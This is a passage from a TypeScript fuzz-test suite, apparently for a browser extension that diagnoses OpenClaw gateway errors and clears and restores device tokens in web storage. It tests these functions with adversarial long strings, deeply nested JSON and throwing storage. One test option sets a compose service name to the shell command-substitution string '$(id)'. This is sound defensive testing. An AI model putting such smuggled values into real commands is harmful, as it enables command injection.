        entries.push([`${base}:${gatewayScope(gw)}`, r.chance(0.5) ? jsonText(r) : unicode(r, 64)]);
        break;
      default:
        entries.push([r.pick(['openclaw.control.chatComposer.v4:main', 'openclaw.i18n.locale', 'openclaw:pinned:1']), unicode(r, 32)]);
    }
  }
  const storage = new MemoryStorage();
  for (const [key, value] of entries) storage.setItem(key, value);
  const session = new MemoryStorage();
  if (r.chance(0.5)) session.setItem(`${brand}.control.token.v1:${gatewayScope(gw, false)}`, r.chance(0.8) ? secret(r, 24) : '');
  if (r.chance(0.2)) session.setItem(r.pick(PROTO_NAMES), unicode(r, 8));
  let gatewayForPlan: string | null;
  const pick = r.int(10);
  if (pick < 6) gatewayForPlan = currentGatewayUrl(storage, page, path);
  else if (pick < 8) gatewayForPlan = gw;
  else if (pick < 9) gatewayForPlan = null;
  else gatewayForPlan = gatewayUrl(r);
  return { storage, session, sessionReadable: r.chance(0.8), brand, pageUrl: page, basePath: path, gatewayUrl: gatewayForPlan };
}

type Fault = 'length' | 'key' | 'getItem' | 'setItem' | 'removeItem';
const FAULTS: readonly Fault[] = ['length', 'key', 'getItem', 'setItem', 'removeItem'];

/** A storage whose getters and writes throw (a sandboxed frame, disabled cookies, a full quota), now and then or always. */
class HostileStorage implements WebStorage {
  constructor(
    readonly inner: MemoryStorage,
    readonly faults: ReadonlySet<Fault>,
    private readonly r: Rng,
    private readonly probability: number,
  ) {}
  private maybeThrow(fault: Fault): void {
    if (!this.faults.has(fault) || !this.r.chance(this.probability)) return;
    throw this.r.pick<() => unknown>([
      () => new DOMException('The operation is insecure.', 'SecurityError'),
      () => new DOMException('quota', 'QuotaExceededError'),
      () => new TypeError('Illegal invocation'),
      () => 'a string',
      () => null,
      () => undefined,
      () => ({ name: 'NotAnError' }),
      () => Symbol('thrown'),
    ])();
  }
  get length(): number {
    this.maybeThrow('length');
    return this.inner.length;
  }
  key(index: number): string | null {
    this.maybeThrow('key');
    return this.inner.key(index);
  }
  getItem(key: string): string | null {
    this.maybeThrow('getItem');
    return this.inner.getItem(key);
  }
  setItem(key: string, value: string): void {
    this.maybeThrow('setItem');
    this.inner.setItem(key, value);
  }
  removeItem(key: string): void {
    this.maybeThrow('removeItem');
    this.inner.removeItem(key);
  }
}

/** A storage whose `failAt`-th write (0-based) fails once, as a full quota would. */
class FlakyStorage extends MemoryStorage {
  private writes = 0;
  constructor(
    initial: Record<string, string>,
    private readonly failAt: number,
  ) {
    super(initial);
  }
  override setItem(key: string, value: string): void {
    if (this.writes++ === this.failAt) throw new DOMException('quota', 'QuotaExceededError');
    super.setItem(key, value);
  }
  override removeItem(key: string): void {
    if (this.writes++ === this.failAt) throw new DOMException('denied', 'SecurityError');
    super.removeItem(key);
  }
}

/** The same keys with the same values, character for character (order aside). */
function sameStorage(a: Record<string, string>, b: Record<string, string>): string | null {
  const aKeys = Object.keys(a);
  const bKeys = Object.keys(b);
  if (aKeys.length !== bKeys.length) return `${aKeys.length} keys, then ${bKeys.length}`;
  for (const key of aKeys) {
    if (!Object.hasOwn(b, key)) return `key ${showString(key)} went missing`;
    if (a[key] !== b[key]) return `key ${showString(key)} changed from ${showString(a[key]!)} to ${showString(b[key]!)}`;
  }
  return null;
}

/**
 * The long inputs every target gets: adversarial patterns at 64 Ki characters, then at 1 MB,
 * and 20,000-deep JSON. The 64 Ki round comes first so that a quadratic step fails in seconds
 * there (a 64 Ki run of `/` followed by a letter took 2.7 s in the old trailing-slash regex)
 * rather than spending many minutes on the megabyte.
 */
function bigStrings(): { name: string; text: string }[] {
  const deepObject = '{"a":'.repeat(20_000) + '1' + '}'.repeat(20_000);
  const deepArray = '['.repeat(20_000) + ']'.repeat(20_000);
  const deep = [
    { name: "'[' x 20,000", text: '['.repeat(20_000) },
    { name: '20,000-deep object', text: deepObject },
    { name: '20,000-deep array', text: deepArray },
    { name: '20,000-deep device-auth', text: `{"version":1,"deviceId":"x","tokens":{"operator":${deepObject}}}` },
  ];
  const patterns = (L: number, size: string) => [
    { name: `'/' x ${size}`, text: '/'.repeat(L) },
    { name: `'/' x ${size} + 'x/'`, text: '/'.repeat(L) + 'x/' },
    { name: `'?\n' x ${size}/2`, text: '?\n'.repeat(L / 2) },
    { name: `'?' x ${size} + '\n'`, text: '?'.repeat(L) + '\n' },
    { name: `'a' x ${size}`, text: 'a'.repeat(L) },
    { name: `' ' x ${size} + 'x'`, text: ' '.repeat(L) + 'x' },
    { name: `U+00A0 x ${size}`, text: '\u00a0'.repeat(L) },
    { name: `lone surrogates x ${size}`, text: '\ud800'.repeat(L) },
    { name: `'device token mismatch ' x ${size}`, text: 'device token mismatch '.repeat(Math.ceil(L / 22)) },
    { name: `'token_mismatch' x ${size}`, text: 'token_mismatch'.repeat(Math.ceil(L / 14)) },
    { name: `'xtoken_mismatch' x ${size}`, text: 'xtoken_mismatch'.repeat(Math.ceil(L / 15)) },
    { name: `'pairing required requestId: ' + 'a' x ${size}`, text: 'pairing required requestId: ' + 'a'.repeat(L) },
    { name: `'pairing required requestId:' x ${size}`, text: 'pairing required requestId:'.repeat(Math.ceil(L / 27)) },
    { name: `'requestId' + spaces x ${size}`, text: 'pairing required requestId' + ' '.repeat(L) + ':' + ' '.repeat(L / 4) },
    { name: `ws URL + '/' x ${size} + 'x/'`, text: 'ws://127.0.0.1:1/' + '/'.repeat(L) + 'x/' },
    { name: `ws URL + '?' x ${size} + '\n'`, text: 'ws://127.0.0.1:1/?' + '?'.repeat(L) + '\n' },
    { name: `ws URL + '?\n' x ${size}/2`, text: 'ws://127.0.0.1:1/' + '?\n'.repeat(L / 2) },
    { name: `'ws://' + 'a' x ${size}`, text: 'ws://' + 'a'.repeat(L) },
    { name: `http URL + '/' x ${size} + 'x'`, text: 'http://127.0.0.1:1/' + '/'.repeat(L) + 'x' },
    { name: `'"' x ${size}`, text: '"'.repeat(L) },
    { name: `'\\' x ${size}`, text: '\\'.repeat(L) },
    { name: `${size} JSON key`, text: '{"' + 'a'.repeat(L) + '":1}' },
    { name: `${size} of JSON keys`, text: '{' + '"a":1,'.repeat(Math.ceil(L / 6)) + '"b":2}' },
    { name: `${size} release`, text: '2026.9.6' + '9'.repeat(L) },
    {
      name: `${size} device-auth token`,
      text: JSON.stringify({ version: 1, deviceId: 'a'.repeat(64), tokens: { operator: { token: `big-${'x'.repeat(L)}`, role: 'operator', scopes: [], updatedAtMs: 1 } } }),
    },
    { name: `'disconnected (4008): connect failed' x ${size}`, text: 'disconnected (4008): connect failed\n'.repeat(Math.ceil(L / 36)) },
    { name: `random Unicode ${size}`, text: ''.padEnd(L, '\u202e\ud800 \u00a0x') },
  ];
  return [...patterns(64 * 1024, '64 Ki'), ...deep, ...patterns(MB, '1 MB')];
}

let bigCache: { name: string; text: string }[] | null = null;

/** The big inputs, one after another, each named in a failure. */
function* big(test: string): Generator<{ name: string; text: string }> {
  bigCache ??= bigStrings();
  for (const [index, input] of bigCache.entries()) {
    where.test = test;
    where.index = index;
    yield input;
  }
}

// -------------------------------------------------------------------------------------------
// The tests
// -------------------------------------------------------------------------------------------

const prototypeNamesBefore = {
  object: Object.getOwnPropertyNames(Object.prototype).sort().join(),
  array: Object.getOwnPropertyNames(Array.prototype).sort().join(),
};

describe(`fuzz (seed ${SEED})`, () => {
  it(
    'classifyError: never throws, linear time, names only real kinds, reads every white-space spelling of a phrase',
    () => {
      const target = 'classifyError';
      const checkResult = (input: unknown, result: Lockout[]) => {
        check(Array.isArray(result), target, input, 'returns an array');
        const kinds = new Set<string>();
        for (const lockout of result) {
          check(isLockoutKind(lockout.kind), target, input, `kind ${show(lockout.kind)} is a LockoutKind`);
          check(!kinds.has(lockout.kind), target, input, `kind ${lockout.kind} named once`);
          kinds.add(lockout.kind);
          if (lockout.requestId !== undefined) {
            check(/^[A-Za-z0-9_-]{4,128}$/.test(lockout.requestId), target, input, `requestId ${show(lockout.requestId)} has the id alphabet and length`);
            check(typeof input === 'string' && input.includes(lockout.requestId), target, input, 'requestId comes from the text');
          }
        }
        check(JSON.stringify(result).length < 4_096, target, input, 'the result is small');
      };
      cases(target, n(30_000), (r) => {
        const text = errorText(r);
        checkResult(text, call(target, text, text.length, () => classifyError(text)));
      });
      cases(`${target} white space`, n(5_000), (r) => {
        const [phrase, kind] = r.pick(PHRASE_KINDS);
        const spelled = randomCase(r, phrase).replace(/ /g, () => spaces(r));
        const text = unicode(r, 40) + r.pick(['', ' ', '\n']) + spelled + r.pick(['', ' ', '(', '\n']) + unicode(r, 40);
        const result = call(target, text, text.length, () => classifyError(text));
        checkResult(text, result);
        check(
          result.some((lockout) => lockout.kind === kind),
          target,
          text,
          `“${phrase}” in any case with any white space between its words names ${kind}`,
        );
      });
      cases(`${target} wrong types`, n(1_000), (r) => {
        const value = wrongType(r);
        const result = call(target, value, 1, () => classifyError(value as never));
        check(Array.isArray(result) && result.length === 0, target, value, 'a value that is not a string names nothing');
      });
      for (const { name, text } of big(`${target} 1 MB`)) {
        checkResult(text, call(target, name, text.length, () => classifyError(text)));
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'classifyFailureKind: prototype names and unknown kinds name nothing',
    () => {
      const target = 'classifyFailureKind';
      const KNOWN = ['pairing-required', 'auth-rate-limited', 'insecure-context', 'origin-not-allowed', 'protocol-mismatch', 'build-mismatch'];
      cases(target, n(8_000), (r) => {
        let value: unknown;
        switch (r.int(6)) {
          case 0:
            value = r.pick(PROTO_NAMES);
            break;
          case 1:
            value = r.pick(KNOWN);
            break;
          case 2:
            value = r.pick([...KNOWN, ...PROTO_NAMES]).replace(/^|$/, () => (r.chance(0.5) ? spaces(r) : '')) + (r.chance(0.5) ? unicode(r, 3) : '');
            break;
          case 3:
            value = randomCase(r, r.pick(KNOWN));
            break;
          case 4:
            value = wrongType(r);
            break;
          default:
            value = unicode(r, 24);
        }
        const result = call(target, value, typeof value === 'string' ? value.length : 1, () => classifyFailureKind(value as never));
        check(Array.isArray(result) && result.length <= 1, target, value, 'at most one lock-out');
        for (const lockout of result) check(isLockoutKind(lockout.kind), target, value, `kind ${show(lockout.kind)} is a LockoutKind`);
        const unknown = typeof value !== 'string' || PROTO_NAMES.includes(value) || /[^a-z-]/.test(value);
        if (unknown) check(result.length === 0, target, value, 'a prototype name, a non-string or a name outside [a-z-] names nothing');
      });
      for (const { name, text } of big(`${target} 1 MB`)) {
        const result = call(target, name, text.length, () => classifyFailureKind(text));
        check(result.length === 0, target, name, 'names nothing');
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'diagnoseText, classifyDashboardWords, runModeFromText: never throw, linear time, one cause per kind and client, in fix order',
    () => {
      const target = 'diagnoseText';
      const SOURCES = ['browser', 'cli', 'log', 'mixed', 'unknown'];
      const checkResult = (input: unknown, result: TextDiagnosis) => {
        check(SOURCES.includes(result.source), target, input, `source ${show(result.source)} is one of ${SOURCES}`);
        check(Array.isArray(result.causes), target, input, 'causes is an array');
        const keys = new Set<string>();
        result.causes.forEach((cause, index) => {
          check(isLockoutKind(cause.kind), target, input, `kind ${show(cause.kind)} is a LockoutKind`);
          const key = `${cause.kind}|${cause.client ?? ''}`;
          check(!keys.has(key), target, input, `${key} named once`);
          keys.add(key);
          if (index > 0) check(byFixOrder(result.causes[index - 1]!.kind, cause.kind) <= 0, target, input, 'causes in fix order');
          if (cause.requestId !== undefined) check(/^[A-Za-z0-9_-]{4,128}$/.test(cause.requestId), target, input, 'requestId has the id alphabet and length');
          check(cause.client === undefined || cause.client === 'browser' || cause.client === 'cli', target, input, 'client is browser, cli or absent');
        });
        check(result.runMode === null || JSON.stringify(parseRunMode(result.runMode)) === JSON.stringify(result.runMode), target, input, 'runMode is one parseRunMode accepts');
        check(JSON.stringify(result).length < 16_384, target, input, 'the result is small');
      };
      const words = DASHBOARD_WORDS.flatMap((group) => group.words);
      const LINES = [
        () => r0.pick(PREFIXES) + r0.pick(MESSAGES),
        () => `$ ${r0.pick(['', 'docker compose exec openclaw-gateway ', 'docker exec -it oc ', 'docker compose run --rm openclaw-cli '])}openclaw devices list`,
        () => `openclaw-gateway-1  | [ws] unauthorized conn=${r0.hex(6)} client=${r0.pick(['openclaw-control-ui webchat', 'cli cli'])} v2026.9.6 reason=${r0.pick(CODES)[1]}`,
        () => r0.pick(words),
        () => `Gateway target: ws://127.0.0.1:${r0.int(65536)}`,
        () => `🦞 OpenClaw 2026.${r0.int(13)}.${r0.int(32)} (abc)`,
        () => unicode(r0, 30),
      ];
      let r0: Rng;
      cases(target, n(6_000), (r) => {
        r0 = r;
        const text = r.chance(0.3) ? errorText(r) : Array.from({ length: 1 + r.int(8) }, () => r.pick(LINES)()).join(r.pick(['\n', '\r\n', '\n\n', ' ']));
        const options = {
          release: r.chance(0.5) ? parseRelease(r.pick(['2026.1.30', '2026.2.19', '2026.2.26', '2026.3.8', '2026.4.24', '2026.9.6'])) : null,
          stored: r.chance(0.5) ? { deviceTokenStored: r.chance(0.5), sharedTokenHeld: r.chance(0.5) } : null,
          runMode: r.chance(0.3) ? r.pick([{ kind: 'host' }, { kind: 'compose', service: '$(id)' }, { kind: 'container', name: 'oc' }, { kind: 'podman' }]) : null,
        };
        checkResult(text, call(target, text, text.length, () => diagnoseText(text, options as never)));
        const friendly = call('classifyDashboardWords', text, text.length, () => classifyDashboardWords(text));
        check(friendly.every((l) => isLockoutKind(l.kind)) && new Set(friendly.map((l) => l.kind)).size === friendly.length, 'classifyDashboardWords', text, 'real kinds, each once');
        const mode = call('runModeFromText', text, text.length, () => runModeFromText(text));
        check(mode === null || JSON.stringify(parseRunMode(mode)) === JSON.stringify(mode), 'runModeFromText', text, 'a run mode parseRunMode accepts, with a name that fits');
        const dataKind = r.pick([...FAILURE_KIND_NAMES, ...PROTO_NAMES, unicode(r, 8)]);
        const combined = call('combineFailureKind', dataKind, 1, () => combineFailureKind(dataKind, classifyError(text)));
        check(combined.every((l) => isLockoutKind(l.kind)), 'combineFailureKind', dataKind, 'real kinds');
        if (PROTO_NAMES.includes(dataKind)) check(combined.length === classifyError(text).length, 'combineFailureKind', dataKind, 'a prototype name adds nothing');
      });
      cases(`${target} wrong types`, n(500), (r) => {
        const value = wrongType(r);
        const result = call(target, value, 1, () => diagnoseText(value as never));
        check(result.causes.length === 0, target, value, 'a value that is not a string names nothing');
        check(classifyDashboardWords(value as never).length === 0 && runModeFromText(value as never) === null, target, value, 'nor do the others');
      });
      for (const { name, text } of big(`${target} 1 MB`)) {
        checkResult(text, call(target, name, text.length, () => diagnoseText(text)));
        call('classifyDashboardWords', name, text.length, () => classifyDashboardWords(text));
        call('runModeFromText', name, text.length, () => runModeFromText(text));
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'parseObject and parseRelease: never throw, linear time, depth-bounded objects only',
    () => {
      const target = 'parseObject';
      const checkParsed = (input: unknown, maxChars: number, result: Record<string, unknown> | null) => {
        if (result === null) return;
        check(typeof result === 'object' && !Array.isArray(result), target, input, 'an object or null');
        check(typeof input === 'string' && input.length <= maxChars, target, input, 'only strings within maxChars parse');
        let text: string | undefined;
        try {
          text = JSON.stringify(result);
        } catch (error) {
          fail(target, input, `the parsed object cannot be written back: ${describeError(error)}`);
        }
        check(text !== undefined, target, input, 'the parsed object can be written back');
      };
      cases(target, n(12_000), (r) => {
        const value = r.chance(0.1) ? wrongType(r) : r.chance(0.5) ? jsonText(r) : r.chance(0.5) ? deviceAuthValue(r) : unicode(r, 64);
        const maxChars = r.chance(0.7) ? 64 * 1024 : r.pick([0, 1, 16, 8 * 1024, Infinity, -1]);
        const size = typeof value === 'string' ? value.length : 1;
        const withDefault = r.chance(0.5);
        const result = call(target, { value, maxChars: withDefault ? 'default' : maxChars }, size, () =>
          withDefault ? parseObject(value as never) : parseObject(value as never, maxChars),
        );
        checkParsed(value, withDefault ? 64 * 1024 : maxChars, result);
      });
      cases(`${target} depth`, n(2_000), (r) => {
        const depth = 1 + r.int(80);
        const text = (r.chance(0.5) ? '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) : '{"a":' + '['.repeat(depth - 1) + ']'.repeat(depth - 1) + '}');
        const result = call(target, text, text.length, () => parseObject(text));
        if (depth > 32) check(result === null, target, text, `${depth}-deep JSON is not a value the app writes (limit 32)`);
        checkParsed(text, 64 * 1024, result);
      });
      for (const { name, text } of big(`${target} 1 MB`)) {
        // The limits the extension uses; JSON.parse of a whole megabyte is V8's time, not ours.
        for (const maxChars of [64 * 1024, MAX_BACKUP_VALUE_CHARS]) {
          const result = call(target, { name, maxChars }, text.length, () => parseObject(text, maxChars));
          checkParsed(text, maxChars, result);
          if (/deep/.test(name)) check(result === null, target, name, '20,000-deep JSON is refused');
        }
      }

      const release = 'parseRelease';
      cases(release, n(6_000), (r) => {
        const value = r.chance(0.1) ? wrongType(r) : releaseText(r);
        const result = call(release, value, typeof value === 'string' ? value.length : 1, () => parseRelease(value as never));
        if (result !== null) {
          const { year, month, day } = result;
          check(Number.isInteger(year) && Number.isInteger(month) && Number.isInteger(day), release, value, 'integer parts');
          check(month >= 1 && month <= 12 && day >= 1 && day <= 31, release, value, 'a real month and day');
        }
      });
      for (const { name, text } of big(`${release} 1 MB`)) {
        call(release, name, text.length, () => parseRelease(text));
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'gatewayScope, defaultGatewayUrl, normaliseBasePath: never throw, linear time, the base path never changes the host',
    () => {
      cases('gatewayScope', n(8_000), (r) => {
        const url = r.chance(0.08) ? wrongType(r) : gatewayUrl(r);
        const withQuery = r.chance(0.5);
        const scope = call('gatewayScope', { url, withQuery }, urlSize(url), () => gatewayScope(url as never, withQuery));
        check(typeof scope === 'string' && scope.length > 0, 'gatewayScope', url, 'a non-empty string');
        if (typeof url !== 'string') check(scope === 'default', 'gatewayScope', url, 'a non-string is the `default` scope');
      });
      cases('defaultGatewayUrl', n(6_000), (r) => {
        const page = r.chance(0.05) ? wrongType(r) : pageUrl(r);
        const path = r.chance(0.05) ? wrongType(r) : basePath(r);
        const input = { page, path };
        const size = urlSize(page) + urlSize(path);
        const result = call('defaultGatewayUrl', input, size, () => defaultGatewayUrl(page as never, path as never));
        if (result === null) return;
        check(/^wss?:\/\//.test(result), 'defaultGatewayUrl', input, 'a ws:// or wss:// URL');
        check(!/[\s\u0000-\u001f\u007f]/.test(result), 'defaultGatewayUrl', input, 'no white space or control characters');
        let host: string | null = null;
        try {
          host = new URL(result).host;
        } catch {
          fail('defaultGatewayUrl', input, `the result ${showString(result)} is not a URL`);
        }
        check(host === new URL(page as string).host, 'defaultGatewayUrl', input, `the page's host, whatever the base path (got ${show(host)})`);
      });
      cases('normaliseBasePath', n(6_000), (r) => {
        const path = r.chance(0.1) ? wrongType(r) : basePath(r);
        const result = call('normaliseBasePath', path, typeof path === 'string' ? path.length : 1, () => normaliseBasePath(path as never));
        check(typeof result === 'string', 'normaliseBasePath', path, 'a string');
        if (result !== '') {
          check(result.startsWith('/') && !result.startsWith('//') && !result.endsWith('/'), 'normaliseBasePath', path, `a plain path without a trailing slash (got ${showString(result)})`);
          check(result.length <= 256 && !/[?#\\\s\u0000-\u001f\u007f]/.test(result), 'normaliseBasePath', path, 'short, with no query, fragment, backslash, space or control');
        }
      });
      for (const { name, text } of big('gateway URLs 1 MB')) {
        const size = urlSize(text) + 60;
        call('gatewayScope', name, size, () => gatewayScope(text));
        call('gatewayScope', name, size, () => gatewayScope(`ws://127.0.0.1:1/${text}`, false));
        call('defaultGatewayUrl', name, size, () => defaultGatewayUrl(`http://127.0.0.1:1/${text}`));
        call('defaultGatewayUrl', name, size, () => defaultGatewayUrl('http://127.0.0.1:1/', text));
        call('defaultGatewayUrl', name, size, () => defaultGatewayUrl('http://127.0.0.1:1/', `/${text}`));
        call('normaliseBasePath', name, text.length, () => normaliseBasePath(text));
        call('normaliseBasePath', name, text.length, () => normaliseBasePath(`/${text}`));
      }
    },
    TEST_TIMEOUT_MS,
  );

  /** A storage case's size: its keys and values, and the URLs the readers parse (worked out once per case). */
  const sizes = new WeakMap<StorageCase, number>();
  const storageSize = (c: StorageCase) => {
    let size = sizes.get(c);
    if (size === undefined) {
      size = sizeOf(c.storage) + sizeOf(c.session) + urlSize(c.gatewayUrl) + urlSize(c.pageUrl) + urlSize(c.basePath);
      sizes.set(c, size);
    }
    return size;
  };

  /** Runs every storage reader on one storage case and checks what they return. */
  function readStorage(c: StorageCase, local: WebStorage = c.storage, size = storageSize(c)): void {
    const input = { storage: local, session: c.session, brand: c.brand, pageUrl: c.pageUrl, basePath: c.basePath, gatewayUrl: c.gatewayUrl };
    const base = deviceAuthBase(c.brand);
    const entries = call('deviceAuthEntries', input, size, () => deviceAuthEntries(local, c.brand));
    for (const entry of entries) {
      check(entry.key === base || entry.key.startsWith(`${base}:`), 'deviceAuthEntries', input, `only ${base} keys (got ${showString(entry.key)})`);
      check(Number.isInteger(entry.tokenLength) && entry.tokenLength >= 0, 'deviceAuthEntries', input, 'a token length');
    }
    check(!JSON.stringify(entries).includes(SECRET_MARK), 'deviceAuthEntries', input, 'describes tokens without their values');
    const identity = call('deviceIdentity', input, size, () => deviceIdentity(local, c.brand));
    check(identity === null || typeof identity.key === 'string', 'deviceIdentity', input, 'null or an identity');
    const session = c.sessionReadable === false ? null : c.session;
    const summary = call('summarizeStoredAuth', input, size, () => summarizeStoredAuth(local, session, c.gatewayUrl, c.brand));
    check(!JSON.stringify(summary).includes(SECRET_MARK), 'summarizeStoredAuth', input, 'presence and lengths only, never a value');
    const current = call('currentGatewayUrl', input, size, () => currentGatewayUrl(local, c.pageUrl, c.basePath));
    if (current !== null) {
      // A URL read from storage is at most 2048 characters; only the page's own default may be longer.
      const fallback = defaultGatewayUrl(c.pageUrl, c.basePath);
      check(typeof current === 'string' && (current === fallback || current.length <= 2048), 'currentGatewayUrl', input, 'a stored URL of at most 2048 characters');
      check(/^wss?:\/\//i.test(current) && !/\s/.test(current), 'currentGatewayUrl', input, `a ws(s):// URL without white space (got ${showString(current)})`);
    }
  }

  /**
   * Clear, then Undo, on one storage: the properties of the issue. `meddle` lets the page write
   * in between, as the dashboard does after the reload (a new token, or the key removed).
   */
  function clearAndUndo(r: Rng, c: StorageCase): void {
    const storage = c.storage;
    const input = { storage, brand: c.brand, gatewayUrl: c.gatewayUrl };
    const size = storageSize(c);
    const original = storage.snapshot();
    const plan = call('planDeviceTokenClear', input, size, () => planDeviceTokenClear(storage, c.gatewayUrl, c.brand));
    const base = deviceAuthBase(c.brand);
    const scoped = c.gatewayUrl === null ? null : `${base}:${gatewayScope(c.gatewayUrl)}`;
    check(plan.changes.length <= MAX_BACKUP_CHANGES, 'planDeviceTokenClear', input, 'at most MAX_BACKUP_CHANGES changes');
    const planned = new Set<string>();
    for (const change of plan.changes) {
      check(change.key === base || change.key === scoped, 'planDeviceTokenClear', input, `changes only this gateway's device-auth keys (got ${showString(change.key)})`);
      check(!planned.has(change.key), 'planDeviceTokenClear', input, 'each key once');
      planned.add(change.key);
      check(change.before === original[change.key], 'planDeviceTokenClear', input, 'before is what the key holds');
      check(typeof change.before === 'string' && change.before.length <= MAX_BACKUP_VALUE_CHARS, 'planDeviceTokenClear', input, 'no value over 8 KB is planned (before)');
      check(typeof change.after === 'string' && change.after.length <= MAX_BACKUP_VALUE_CHARS, 'planDeviceTokenClear', input, 'no value over 8 KB is planned (after)');
      // Only `tokens.operator` goes; every other byte stays as the app wrote it.
      const parsed = JSON.parse(change.before!) as Record<string, unknown>;
      check(JSON.stringify(parsed) === change.before, 'planDeviceTokenClear', input, 'only values JSON.stringify writes unchanged are rewritten');
      const tokens = parsed.tokens as Record<string, unknown>;
      check(Object.hasOwn(tokens, 'operator'), 'planDeviceTokenClear', input, 'a change removes an operator token');
      const expected = JSON.stringify(
        Object.fromEntries(Object.entries(parsed).map(([key, value]) => [key, key === 'tokens' ? Object.fromEntries(Object.entries(tokens).filter(([role]) => role !== 'operator')) : value])),
      );
      check(change.after === expected, 'planDeviceTokenClear', input, `after is before without tokens.operator (got ${showString(change.after!)}, expected ${showString(expected)})`);
    }
    for (const refused of plan.refused) check(!planned.has(refused.key), 'planDeviceTokenClear', input, 'a refused key is not changed');

    // A transient write failure part-way rolls everything back.
    if (plan.changes.length > 0 && r.chance(0.3)) {
      const flaky = new FlakyStorage(original, r.int(plan.changes.length));
      const result = call('applyWrites (failing write)', { flaky, plan }, size, () => applyWrites(flaky, clearWrites(plan.changes)), { retry: false });
      check(!result.ok, 'applyWrites (failing write)', { original, plan }, 'reports the failure');
      const diff = sameStorage(original, flaky.snapshot());
      check(diff === null, 'applyWrites (failing write)', { original, plan }, `all or nothing: ${diff}`);
    }

    const cleared = call('applyWrites (clear)', input, size, () => applyWrites(storage, clearWrites(plan.changes)), { retry: false });
    check(cleared.ok, 'applyWrites (clear)', input, `the clear applies (${show(cleared)})`);
    const afterClear = storage.snapshot();
    const expectedAfter = { ...original };
    for (const change of plan.changes) Object.defineProperty(expectedAfter, change.key, { value: change.after, enumerable: true, writable: true, configurable: true });
    const clearDiff = sameStorage(expectedAfter, afterClear);
    check(clearDiff === null, 'applyWrites (clear)', input, `the clear changes the planned keys only, to their planned values: ${clearDiff}`);

    // The page may write after the clear's reload: a new token, the key removed, or the old value back.
    const meddled = new Set<string>();
    if (plan.changes.length > 0 && r.chance(0.35)) {
      const change = r.pick(plan.changes);
      meddled.add(change.key);
      const what = r.int(3);
      if (what === 0) storage.setItem(change.key, deviceAuthValue(r));
      else if (what === 1) storage.removeItem(change.key);
      else storage.setItem(change.key, change.before!);
    }
    const restore = call('planRestore', { storage, changes: plan.changes }, sizeOf(storage) + sizeOf(plan.changes), () => planRestore(storage, plan.changes));
    if (meddled.size === 0) {
      check(restore.newer.length === 0, 'planRestore', { storage, plan }, 'nothing is newer when the page wrote nothing');
      check(restore.safe.length === plan.changes.length, 'planRestore', { storage, plan }, 'every cleared key is safe to put back');
    }
    const writes: StorageWrite[] = [...restore.safe, ...restore.newer.map(({ key, expected, value }) => ({ key, expected, value }))];
    for (const write of writes) check(planned.has(write.key), 'planRestore', { storage, plan }, 'restores only cleared keys');
    const undone = call('applyWrites (undo)', { storage, writes }, size, () => applyWrites(storage, writes), { retry: false });
    check(undone.ok, 'applyWrites (undo)', { storage, writes }, `the Undo applies (${show(undone)})`);
    if (plan.changes.length > 0) roundTrips++;
    const undoDiff = sameStorage(original, storage.snapshot());
    check(undoDiff === null, 'clear + Undo', { original, gatewayUrl: c.gatewayUrl, brand: c.brand, plan }, `restores the storage byte for byte: ${undoDiff}`);
    const again = call('planRestore', { storage, changes: plan.changes }, size, () => planRestore(storage, plan.changes));
    check(again.safe.length === 0 && again.newer.length === 0, 'planRestore', { storage, plan }, 'after Undo there is nothing left to restore');
  }

  it(
    'storage readers and the clear and restore planners: never throw, linear time, clear + Undo restores byte for byte',
    () => {
      cases('storage', n(3_000), (r) => {
        const c = storageCase(r);
        readStorage(c);
        clearAndUndo(r, c);
      });
      // Wrong types where strings are expected: gateway URL, page URL, base path, brand.
      cases('storage wrong types', n(500), (r) => {
        const c = storageCase(r);
        const odd = { ...c, gatewayUrl: wrongType(r) as never, pageUrl: wrongType(r) as never, basePath: wrongType(r) as never };
        if (r.chance(0.3)) odd.brand = r.pick([...PROTO_NAMES, 'dna', '']) as never;
        const input = odd;
        const size = storageSize(odd);
        call('planDeviceTokenClear', input, size, () => planDeviceTokenClear(c.storage, odd.gatewayUrl, odd.brand));
        call('deviceAuthEntries', input, size, () => deviceAuthEntries(c.storage, odd.brand));
        call('deviceIdentity', input, size, () => deviceIdentity(c.storage, odd.brand));
        call('summarizeStoredAuth', input, size, () => summarizeStoredAuth(c.storage, c.session, odd.gatewayUrl, odd.brand));
        call('currentGatewayUrl', input, size, () => currentGatewayUrl(c.storage, odd.pageUrl, odd.basePath));
        const changes = Array.from({ length: r.int(4) }, (): StorageChange => ({
          key: r.chance(0.5) ? r.pick(PROTO_NAMES) : (wrongType(r) as never),
          before: r.chance(0.5) ? unicode(r, 8) : (jsonWrongType(r) as never),
          after: r.chance(0.5) ? null : (jsonWrongType(r) as never),
        }));
        call('planRestore', { storage: c.storage, changes }, size, () => planRestore(c.storage, changes));
      });
      // A storage whose getters and writes throw.
      cases('hostile storage', n(800), (r) => {
        const c = storageCase(r);
        const faults = new Set(FAULTS.filter(() => r.chance(0.5)));
        const hostile = new HostileStorage(c.storage, faults, r, r.pick([1, 0.5, 0.1]));
        const size = storageSize(c);
        readStorage(c, hostile, size);
        const input = { storage: hostile, gatewayUrl: c.gatewayUrl };
        const plan = call('planDeviceTokenClear', input, size, () => planDeviceTokenClear(hostile, c.gatewayUrl, c.brand));
        call('applyWrites (hostile)', input, size, () => applyWrites(hostile, clearWrites(plan.changes)), { retry: false });
        const restore = call('planRestore', input, size, () => planRestore(hostile, plan.changes));
        call('applyWrites (hostile)', input, size, () => applyWrites(hostile, [...restore.safe, ...restore.newer]), { retry: false });
        call('summarizeStoredAuth', input, size, () => summarizeStoredAuth(c.storage, new HostileStorage(c.session, new Set(FAULTS), r, 1), c.gatewayUrl, c.brand));
      });
      // 1 MB values and keys, 20,000-deep JSON, under every key the readers look at.
      for (const { name, text } of big('storage 1 MB')) {
        for (const brand of [name.length % 2 ? 'openclaw' : 'clawdbot'] as const) {
          const base = deviceAuthBase(brand);
          const gw = 'ws://127.0.0.1:18789';
          const page = 'http://127.0.0.1:18789/';
          const layouts: Record<string, string>[] = [
            { [base]: text, [`${base}:${gw}`]: text, [`${brand}-device-identity-v1`]: text },
            { [`${brand}.control.settings.v1`]: text, 'openclaw.control.settings.v1': text, [`openclaw.control.currentGateway.v1:${page}`]: text },
